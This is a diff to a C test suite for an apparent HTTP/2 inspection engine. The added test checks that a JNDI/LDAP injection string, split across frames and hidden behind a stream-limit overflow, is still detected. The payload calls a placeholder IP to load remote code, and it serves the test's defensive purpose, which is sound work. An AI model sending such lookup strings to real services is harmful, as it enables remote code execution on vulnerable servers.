@@ -258,6 +258,23 @@ START_TEST(more_streams_than_followed)
 }
 END_TEST
 
+// An answered stream gives way to a new one. What its client has yet to say may still be read by the server.
+START_TEST(an_answered_stream_that_gives_way_is_said)
+{
+	begin_client();
+	h2_headers(&from_client, client, 0, 1, H2_FIELDS({":method", "POST"}, {":path", "/"}, {":scheme", "http"}, {":authority", "a.example"}));
+	h2_text(&from_client, 0, 1, "x ${jndi:ldap:");
+	h2_settings(&from_server);
+	h2_headers(&from_server, server, H2_END, 1, H2_FIELDS({":status", "200"}));
+	for (uint32_t i = 0; i < HTTP2_STREAMS; i++)
+		h2_headers(&more, client, 0, 3 + 2 * i, H2_FIELDS({":method", "POST"}, {":path", "/"}, {":scheme", "http"}, {":authority", "a.example"}));
+	h2_text(&more, H2_END, 1, "//203.0.113.9/a}");
+	play((const struct line[]){{true, made(&from_client)}, {false, made(&from_server)}, {true, made(&more)}}, 3, 0, 0, 0, &caught);
+	ck_assert_uint_eq(marked, 1);
+	ck_assert_uint_eq(counters.value[COUNT_PROTO_HTTP2_LIMIT], 1);
+}
+END_TEST
+
 START_TEST(more_bodies_than_windows)
 {
 	begin_client();
@@ -409,6 +426,7 @@ static void add_hostile(TCase *t)
 	tcase_add_test(t, lookups_without_end);
 	tcase_add_test(t, cookies_in_turns);
 	tcase_add_test(t, more_streams_than_followed);
+	tcase_add_test(t, an_answered_stream_that_gives_way_is_said);
 	tcase_add_test(t, more_bodies_than_windows);
 	tcase_add_test(t, more_connections_than_places);
 	tcase_add_test(t, malformed);
